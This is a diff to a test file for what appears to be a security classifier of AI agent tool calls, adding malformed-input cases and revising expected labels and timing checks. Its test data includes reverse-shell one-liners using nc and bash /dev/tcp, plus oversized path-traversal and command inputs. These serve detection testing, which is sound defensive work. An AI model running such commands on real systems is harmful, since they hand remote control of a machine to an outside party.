@@ -101,6 +101,8 @@ describe("a tool", () => {
     ["shell.run", { command: ["ls", 7] }],
     ["file.read", { file_path: ["a"] }],
     ["file.patch", { patch: "no patch at all" }],
+    ["shell.run", { command: "echo \ud800" }],
+    ["file.read", { file_path: "\udfff" }],
     ["shell.run", JSON.parse('{"command": "ls", "a": {"__proto__": 1}}') as JsonObject],
   ])("whose input cannot be read is a finding: %s %j", (tool, input) => {
     expect(reasons(ask(tool, input))).toEqual(["INPUT_UNREADABLE"]);
@@ -172,7 +174,7 @@ describe("a command", () => {
     ["nc -e /bin/sh x.test 80", "network.send reverse.shell"],
     [
       "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
-      "command.opaque command.opaque.code_from_input command.opaque.environment network.send path.outside-workspace.write reverse.shell",
+      "command.opaque command.opaque.code_from_input command.opaque.environment command.opaque.grammar_mismatch network.send reverse.shell",
     ],
     ["crontab -l", "command.opaque command.opaque.unparsed_launcher"],
     ["crontab jobs", "command.opaque command.opaque.unparsed_launcher cron.change"],
@@ -355,7 +357,7 @@ describe("a hostile request", () => {
       { command: `cat ${Array.from({ length: 9_000 }, (_, at) => `f${at}`).join(" ")}` },
     ],
     ["many clients of databases", "shell.run", { command: "psql -c 'select 1';".repeat(1_500) }],
-    ["one long statement", "shell.run", { command: `psql -c 'select ${"1,".repeat(15_000)}1'` }],
+    ["one long statement, and its kin", "shell.run", { command: `psql -c 'select ${"1,".repeat(15_000)}1'` }],
     [
       "many statements that nest",
       "shell.run",
@@ -366,12 +368,12 @@ describe("a hostile request", () => {
     ["a patch of dashes", "file.patch", { patch: "--- a\n".repeat(90_000) }],
     ["a path of dots", "file.read", { file_path: "../".repeat(300_000) }],
   ])("is answered soon, and never with a fault: %s", (_, tool, input) => {
-    const startedMs = performance.now();
-    const classified = ask(tool, input);
-    const tookMs = performance.now() - startedMs;
-    expect(classified.signals.length + classified.findings.length).toBeGreaterThan(-1);
-    // The limit is a tenth of a second on a machine of its own.
-    expect(tookMs).toBeLessThan(1_000);
+    const before = process.cpuUsage();
+    const { action } = ask(tool, input);
+    const { user, system } = process.cpuUsage(before);
+    expect(action).toBe("act");
+    // Processor time, since the machine may be busy; a tenth of a second is usual where the code is warm.
+    expect((user + system) / 1_000).toBeLessThan(500);
   });
 
   it("names as many files as it may, and not one more", () => {
